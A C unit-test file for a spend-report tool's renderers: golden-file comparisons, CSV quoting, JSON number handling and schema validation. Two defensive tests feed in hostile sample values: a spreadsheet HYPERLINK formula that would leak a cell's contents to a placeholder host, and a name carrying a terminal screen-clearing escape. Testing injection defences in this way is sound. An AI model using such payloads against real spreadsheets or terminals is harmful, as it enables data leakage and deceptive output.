/*
 * Tests of the spend report's renderers (src/report/spend_*.c) on the
 * hand-built report of tests/support/sr_fixture.c: the fixture itself first
 * (its figures add up), then each format against its golden file and the
 * rules each format has to keep.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include <jansson.h>
#include <unistd.h>

#include "promptcost/money.h"
#include "promptcost/spend_report.h"
#include "support/sr_fixture.h"

typedef int (*renderer)(struct pc_buf *out, const struct pc_spend_report *report);

/*
 * Compares out with tests/golden/report/NAME byte for byte (the tests run
 * from the repository's root, as tests/run.sh does); PC_UPDATE_GOLDEN=1
 * rewrites the golden file instead, as tests/e2e/lib.sh's expect_golden does.
 */
static void expect_golden(const struct pc_buf *out, const char *name)
{
	char path[256];
	struct pc_buf golden = PC_BUF_INIT;
	const char *update = getenv("PC_UPDATE_GOLDEN");

	snprintf(path, sizeof(path), "tests/golden/report/%s", name);
	if (update && !strcmp(update, "1"))
		assert_int_equal(pc_file_write_atomic(path, out->ptr, out->len), 0);
	assert_int_equal(pc_file_read(&golden, path, 1 << 22), 0);
	if (golden.len != out->len || memcmp(golden.ptr, out->ptr, out->len)) {
		fprintf(stderr, "%s differs from the output; the output:\n%s\n", path, out->ptr);
		fail_msg("%s: golden file differs (PC_UPDATE_GOLDEN=1 rewrites it)", path);
	}
	pc_buf_release(&golden);
}

/* Renders the fixture (or the empty report) with render into a new buffer. */
static struct pc_buf render_with(renderer render, bool empty)
{
	struct pc_spend_report *r = empty ? sr_fixture_empty() : sr_fixture_new();
	struct pc_buf out = PC_BUF_INIT;

	assert_int_equal(render(&out, r), 0);
	sr_fixture_free(r);
	return out;
}

static void test_spend_render__text_matches_the_golden_file(void **state)
{
	struct pc_buf out = render_with(pc_spend_report_text, false);

	(void)state;
	expect_golden(&out, "agency.txt");
	pc_buf_release(&out);
}

/* The fixture is consistent: charges sum to the total, the parts to the wholes. */
static void test_spend_render__the_fixture_adds_up(void **state)
{
	struct pc_spend_report *r = sr_fixture_new();
	int64_t effective = 0, billed = 0, templates = 0, use_cases = 0, teams = 0;

	(void)state;
	for (size_t i = 0; i < r->ncharges; i++) {
		effective += r->charges[i].effective_micros;
		billed += r->charges[i].billed_micros;
	}
	assert_int_equal(r->ncharges, 20);
	assert_int_equal(effective, r->posture.total_micros);
	assert_int_equal(billed, r->posture.total_micros);
	assert_int_equal(r->posture.total_micros,
			 r->posture.on_demand_micros + r->posture.commitment_micros);
	for (size_t i = 0; i < r->ntemplates; i++) {
		int64_t versions = 0, days = 0;

		templates += r->templates[i].cost_micros;
		for (size_t j = 0; j < r->templates[i].nversions; j++)
			versions += r->templates[i].versions[j].cost_micros;
		for (int64_t d = 0; d < r->ndays; d++)
			days += r->templates[i].daily_micros[d];
		if (r->templates[i].nversions)
			assert_int_equal(versions, r->templates[i].cost_micros);
		assert_int_equal(days, r->templates[i].cost_micros);
	}
	/* ptu-west's $12.00 is shown back to nobody */
	assert_int_equal(templates + 12000000, r->posture.total_micros);
	for (size_t i = 0; i < r->nuse_cases; i++)
		use_cases += r->use_cases[i].cost_micros;
	for (size_t i = 0; i < r->nteams; i++)
		teams += r->teams[i].cost_micros;
	assert_int_equal(use_cases, teams);
	assert_int_equal(use_cases + r->quality.unattributed_micros + 12000000,
			 r->posture.total_micros);
	sr_fixture_free(r);
	sr_fixture_free(sr_fixture_empty());
}

static void test_spend_render__markdown_matches_the_golden_file(void **state)
{
	struct pc_buf out = render_with(pc_spend_report_markdown, false);

	(void)state;
	expect_golden(&out, "agency.md");
	pc_buf_release(&out);
}

static void test_spend_render__json_matches_the_golden_file(void **state)
{
	struct pc_buf out = render_with(pc_spend_report_json, false);

	(void)state;
	expect_golden(&out, "agency.json");
	pc_buf_release(&out);
}

static void test_spend_render__focus_matches_the_golden_file(void **state)
{
	struct pc_buf out = render_with(pc_spend_report_focus, false);

	(void)state;
	expect_golden(&out, "agency.focus.csv");
	pc_buf_release(&out);
}

static void test_spend_render__empty_report_matches_its_golden_files(void **state)
{
	static const struct {
		renderer render;
		const char *golden;
	} formats[] = {
		{ pc_spend_report_text, "empty.txt" },
		{ pc_spend_report_markdown, "empty.md" },
		{ pc_spend_report_json, "empty.json" },
		{ pc_spend_report_focus, "empty.focus.csv" },
	};

	(void)state;
	for (size_t i = 0; i < sizeof(formats) / sizeof(formats[0]); i++) {
		struct pc_buf out = render_with(formats[i].render, true);

		expect_golden(&out, formats[i].golden);
		pc_buf_release(&out);
	}
}

/* CSV parsing for the tests (RFC 4180): rows of fields, quotes undone. */
struct csv {
	struct pc_strlist fields; /* row-major */
	size_t ncolumns, nrows;   /* nrows counts the header */
};

static void csv_parse(struct csv *csv, const char *text)
{
	const char *p = text;
	size_t in_row = 0;

	memset(csv, 0, sizeof(*csv));
	while (*p) {
		struct pc_buf field = PC_BUF_INIT;

		if (*p == '"') {
			for (p++;; p++) {
				assert_true(*p != '\0'); /* an unterminated quote */
				if (*p == '"' && p[1] == '"')
					pc_buf_addch(&field, *p++);
				else if (*p == '"')
					break;
				else
					pc_buf_addch(&field, *p);
			}
			p++;
		} else {
			while (*p && *p != ',' && *p != '\r')
				pc_buf_addch(&field, *p++);
		}
		pc_strlist_push(&csv->fields, field.ptr);
		pc_buf_release(&field);
		in_row++;
		if (*p == ',') {
			p++;
			continue;
		}
		/* every row ends with CRLF, never a bare LF */
		assert_true(p[0] == '\r' && p[1] == '\n');
		p += 2;
		if (!csv->nrows)
			csv->ncolumns = in_row;
		assert_int_equal(in_row, csv->ncolumns);
		csv->nrows++;
		in_row = 0;
	}
	assert_int_equal(in_row, 0);
}

static size_t csv_column(const struct csv *csv, const char *name)
{
	for (size_t c = 0; c < csv->ncolumns; c++)
		if (!strcmp(csv->fields.items[c], name))
			return c;
	fail_msg("no column %s", name);
	return 0;
}

static const char *csv_at(const struct csv *csv, size_t row, const char *name)
{
	return csv->fields.items[row * csv->ncolumns + csv_column(csv, name)];
}

static int64_t csv_sum(const struct csv *csv, const char *name, const char *category,
		       const char *commitment)
{
	int64_t sum = 0;

	for (size_t r = 1; r < csv->nrows; r++) {
		int64_t micros = -1;

		if (category && strcmp(csv_at(csv, r, "ChargeCategory"), category))
			continue;
		if (commitment && strcmp(csv_at(csv, r, "CommitmentDiscountId"), commitment))
			continue;
		assert_int_equal(pc_decimal_parse(&micros, csv_at(csv, r, name), 6), 0);
		sum += micros;
	}
	return sum;
}

/* Summing the CSV as a FinOps tool would: EffectiveCost is the report's total, to the micro-unit. */
static void test_spend_render__focus_effective_cost_sums_to_the_total(void **state)
{
	struct pc_spend_report *r = sr_fixture_new();
	struct pc_buf out = PC_BUF_INIT;
	struct csv csv;
	static const char *const mandatory[] = {
		"BilledCost", "BillingAccountId", "BillingCurrency", "BillingPeriodEnd",
		"BillingPeriodStart", "ChargeCategory", "ChargePeriodEnd", "ChargePeriodStart",
		"ContractedCost", "EffectiveCost", "InvoiceIssuerName", "ListCost",
		"PricingQuantity", "PricingUnit", "ProviderName", "PublisherName",
		"ServiceCategory", "ServiceName",
	};

	(void)state;
	assert_int_equal(pc_spend_report_focus(&out, r), 0);
	csv_parse(&csv, out.ptr);
	assert_int_equal(csv.nrows, 1 + r->ncharges);
	/* $133.15 = 133,150,000 micro-units, billed and effective alike */
	assert_int_equal(csv_sum(&csv, "EffectiveCost", NULL, NULL), INT64_C(133150000));
	assert_int_equal(csv_sum(&csv, "BilledCost", NULL, NULL), INT64_C(133150000));
	/* FOCUS 1.2 EffectiveCost: per commitment, Usage effective = Purchase billed */
	assert_int_equal(csv_sum(&csv, "EffectiveCost", "Usage", "ptu-east"), INT64_C(48000000));
	assert_int_equal(csv_sum(&csv, "BilledCost", "Purchase", "ptu-east"), INT64_C(48000000));
	assert_int_equal(csv_sum(&csv, "EffectiveCost", "Usage", "ptu-west"), INT64_C(12000000));
	assert_int_equal(csv_sum(&csv, "BilledCost", "Purchase", "ptu-west"), INT64_C(12000000));
	assert_int_equal(csv_sum(&csv, "EffectiveCost", "Purchase", NULL), 0);
	for (size_t row = 1; row < csv.nrows; row++) {
		const char *category = csv_at(&csv, row, "ChargeCategory");
		const char *status = csv_at(&csv, row, "CommitmentDiscountStatus");

		for (size_t m = 0; m < sizeof(mandatory) / sizeof(mandatory[0]); m++)
			assert_true(*csv_at(&csv, row, mandatory[m]));
		assert_string_equal(csv_at(&csv, row, "ServiceCategory"), "AI and Machine Learning");
		/* ConsumedQuantity null for purchases and the unused part, else tokens */
		if (!strcmp(category, "Purchase") || !strcmp(status, "Unused")) {
			assert_string_equal(csv_at(&csv, row, "ConsumedQuantity"), "");
			assert_string_equal(csv_at(&csv, row, "ConsumedUnit"), "");
		} else {
			assert_string_equal(csv_at(&csv, row, "ConsumedUnit"), "Tokens");
		}
		/* the status is null exactly when there is no commitment, or on the purchase */
		if (!*csv_at(&csv, row, "CommitmentDiscountId") || !strcmp(category, "Purchase"))
			assert_string_equal(status, "");
		else
			assert_true(!strcmp(status, "Used") || !strcmp(status, "Unused"));
	}
	/* the spill-over row is on demand, no commitment discount, tagged with its template */
	assert_string_equal(csv_at(&csv, 14, "x_ChargeKind"), "spill-over");
	assert_string_equal(csv_at(&csv, 14, "CommitmentDiscountId"), "");
	assert_string_equal(csv_at(&csv, 14, "x_ReservationId"), "ptu-east");
	assert_string_equal(csv_at(&csv, 14, "Tags"),
			    "{\"team\":\"legal\",\"use_case\":\"contract-review\","
			    "\"template\":\"contract-review/clauses\"}");
	pc_strlist_release(&csv.fields);
	pc_buf_release(&out);
	sr_fixture_free(r);
}

/* A template id with a comma, a quote and a line break stays one field, read back intact. */
static void test_spend_render__focus_quotes_fields_as_rfc_4180_says(void **state)
{
	static const char odd[] = "brief, \"v2\"\nnew line";
	struct pc_spend_report *r = sr_fixture_new();
	struct pc_buf out = PC_BUF_INIT;
	struct csv csv;

	(void)state;
	r->charges[0].template = odd;
	assert_int_equal(pc_spend_report_focus(&out, r), 0);
	assert_non_null(strstr(out.ptr, ",\"brief, \"\"v2\"\"\nnew line\","));
	csv_parse(&csv, out.ptr);
	assert_int_equal(csv.nrows, 1 + r->ncharges);
	assert_string_equal(csv_at(&csv, 1, "ResourceName"), odd);
	assert_string_equal(csv_at(&csv, 1, "ResourceId"), "template:brief, \"v2\"\nnew line");
	/* and in Tags, JSON-escaped inside the CSV quoting */
	assert_non_null(strstr(csv_at(&csv, 1, "Tags"), "\"template\":\"brief, \\\"v2\\\"\\nnew line\""));
	pc_strlist_release(&csv.fields);
	pc_buf_release(&out);
	sr_fixture_free(r);
}

/*
 * A name a spreadsheet would run as a formula (a record's use case from a
 * usage log, say) gets a leading apostrophe; numbers, negative ones too, do
 * not.
 */
static void test_spend_render__focus_defuses_formulas(void **state)
{
	static const char evil[] = "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")";
	struct pc_spend_report *r = sr_fixture_new();
	struct pc_buf out = PC_BUF_INIT;
	struct csv csv;

	(void)state;
	r->charges[0].template = evil;
	r->charges[1].template = "-summary";
	r->charges[2].model = "@ops";
	assert_int_equal(pc_spend_report_focus(&out, r), 0);
	csv_parse(&csv, out.ptr);
	assert_string_equal(csv_at(&csv, 1, "ResourceName"), "'=HYPERLINK(\"http://x.example/?\"&A1,\"open\")");
	assert_string_equal(csv_at(&csv, 2, "ResourceName"), "'-summary");
	assert_string_equal(csv_at(&csv, 3, "ServiceName"), "'@ops");
	assert_null(strstr(out.ptr, ",=HYPERLINK"));
	assert_null(strstr(out.ptr, ",\"=HYPERLINK"));
	pc_strlist_release(&csv.fields);
	pc_buf_release(&out);
	sr_fixture_free(r);
}

/* Walks a JSON value: no number is a real; money and percentages are strings. */
static void expect_no_reals(const json_t *v)
{
	const char *key;
	json_t *item;
	size_t i;

	assert_false(json_is_real(v));
	if (json_is_object(v)) {
		json_object_foreach((json_t *)v, key, item)
			expect_no_reals(item);
	} else if (json_is_array(v)) {
		json_array_foreach(v, i, item)
			expect_no_reals(item);
	}
}

static void test_spend_render__json_money_and_percentages_are_strings(void **state)
{
	struct pc_buf out = render_with(pc_spend_report_json, false);
	json_error_t error;
	json_t *root = json_loads(out.ptr, 0, &error), *posture, *t;

	(void)state;
	assert_non_null(root);
	expect_no_reals(root);
	posture = json_object_get(root, "posture");
	assert_string_equal(json_string_value(json_object_get(posture, "total_cost")), "133.15");
	assert_string_equal(json_string_value(json_object_get(posture, "cache_hit_rate")), "19.7");
	assert_string_equal(json_string_value(json_object_get(
				    json_object_get(posture, "top_use_case"), "share")),
			    "46.6");
	assert_int_equal(json_integer_value(json_object_get(posture, "active_use_cases")), 4);
	/* faq/answer has no calls: its ratios are null (n/a), not "0.0" */
	t = json_array_get(json_object_get(root, "templates"), 4);
	assert_string_equal(json_string_value(json_object_get(t, "id")), "faq/answer");
	assert_true(json_is_null(json_object_get(t, "cache_hit_rate")));
	assert_true(json_is_null(json_object_get(t, "tokens_per_call")));
	assert_true(json_is_null(json_object_get(t, "change")));
	/* $1.425 a day rounds half away from zero to 1.43 */
	t = json_array_get(json_object_get(root, "templates"), 3);
	assert_string_equal(json_string_value(json_array_get(json_object_get(t, "daily_costs"), 0)),
			    "1.43");
	json_decref(root);
	pc_buf_release(&out);
}

static void test_spend_render__undefined_ratios_read_n_a(void **state)
{
	struct pc_ratio none = { 5, 0 }, half_up = { 1, 8 }, half_down = { -1, 8 };
	char text[32];
	struct pc_buf out = render_with(pc_spend_report_text, true);

	(void)state;
	pc_ratio_format(text, none);
	assert_string_equal(text, "n/a");
	pc_ratio_format(text, half_up);         /* 12.5 exactly */
	assert_string_equal(text, "12.5");
	half_up.den = 16;                       /* 6.25 -> 6.3, half away from zero */
	pc_ratio_format(text, half_up);
	assert_string_equal(text, "6.3");
	half_down.den = 16;
	pc_ratio_format(text, half_down);
	assert_string_equal(text, "-6.3");
	/* the empty report: no calls, so the posture's cache hit rate is n/a */
	assert_non_null(strstr(out.ptr, "response-cache hit rate n/a of 0 calls"));
	assert_non_null(strstr(out.ptr, "no usage recorded in the period"));
	pc_buf_release(&out);
}

/* A name from the records cannot move the terminal's cursor: control characters made visible. */
static void test_spend_render__text_shows_control_characters_visibly(void **state)
{
	struct pc_spend_report *r = sr_fixture_new();
	struct pc_buf out = PC_BUF_INIT;

	(void)state;
	free(r->templates[0].id);
	r->templates[0].id = pc_xstrdup("evil\033[2Jname");
	assert_int_equal(pc_spend_report_text(&out, r), 0);
	assert_null(strchr(out.ptr, '\033'));
	assert_non_null(strstr(out.ptr, "evil\\x1b[2Jname"));
	pc_buf_reset(&out);
	assert_int_equal(pc_spend_report_markdown(&out, r), 0);
	assert_null(strchr(out.ptr, '\033'));
	pc_buf_release(&out);
	sr_fixture_free(r);
}

/* The two causes the fixture's goldens do not show: a commit inferred, and none found. */
static void test_spend_render__spikes_say_inferred_and_unknown_causes(void **state)
{
	struct pc_spend_report *r = sr_fixture_new();
	struct pc_buf out = PC_BUF_INIT;

	(void)state;
	r->spikes[1].cause = PC_SR_CAUSE_INFERRED;
	free(r->spikes[1].version);
	r->spikes[1].version = NULL;
	r->spikes[0].cause = PC_SR_CAUSE_UNKNOWN;
	assert_int_equal(pc_spend_report_text(&out, r), 0);
	assert_non_null(strstr(out.ptr, "summarize/document on 2026-11-02: inferred (no version "
					"recorded: the last commit to its files before), commit "
					SR_FIXTURE_COMMIT_V2));
	assert_non_null(strstr(out.ptr, "campaign/headline on 2026-11-02: unknown: costlier "
					"calls, and no commit found"));
	pc_buf_reset(&out);
	assert_int_equal(pc_spend_report_markdown(&out, r), 0);
	assert_non_null(strstr(out.ptr, "inferred (no version recorded"));
	assert_non_null(strstr(out.ptr, "unknown: costlier calls, and no commit found"));
	pc_buf_reset(&out);
	assert_int_equal(pc_spend_report_json(&out, r), 0);
	assert_non_null(strstr(out.ptr, "\"cause\": \"inferred\""));
	assert_non_null(strstr(out.ptr, "\"cause\": \"unknown\""));
	pc_buf_release(&out);
	sr_fixture_free(r);
}

/* Writes the report's JSON to a file and validates it with ajv against schema/report-v1.json. */
static void expect_schema_valid(bool empty)
{
	struct pc_buf out = render_with(pc_spend_report_json, empty);
	char path[] = "/tmp/pc-report-json-XXXXXX";
	char command[512];
	int fd = mkstemp(path);

	assert_true(fd >= 0);
	assert_int_equal(write(fd, out.ptr, out.len), (ssize_t)out.len);
	close(fd);
	snprintf(command, sizeof(command),
		 "node tests/support/validate-json.js --schema schema/report-v1.json %s", path);
	assert_int_equal(system(command), 0);
	unlink(path);
	pc_buf_release(&out);
}

static void test_spend_render__json_is_valid_against_its_schema(void **state)
{
	(void)state;
	expect_schema_valid(false);
	expect_schema_valid(true);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_spend_render__the_fixture_adds_up),
		cmocka_unit_test(test_spend_render__text_matches_the_golden_file),
		cmocka_unit_test(test_spend_render__markdown_matches_the_golden_file),
		cmocka_unit_test(test_spend_render__json_matches_the_golden_file),
		cmocka_unit_test(test_spend_render__focus_matches_the_golden_file),
		cmocka_unit_test(test_spend_render__empty_report_matches_its_golden_files),
		cmocka_unit_test(test_spend_render__focus_effective_cost_sums_to_the_total),
		cmocka_unit_test(test_spend_render__focus_quotes_fields_as_rfc_4180_says),
		cmocka_unit_test(test_spend_render__focus_defuses_formulas),
		cmocka_unit_test(test_spend_render__json_money_and_percentages_are_strings),
		cmocka_unit_test(test_spend_render__undefined_ratios_read_n_a),
		cmocka_unit_test(test_spend_render__text_shows_control_characters_visibly),
		cmocka_unit_test(test_spend_render__spikes_say_inferred_and_unknown_causes),
		cmocka_unit_test(test_spend_render__json_is_valid_against_its_schema),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
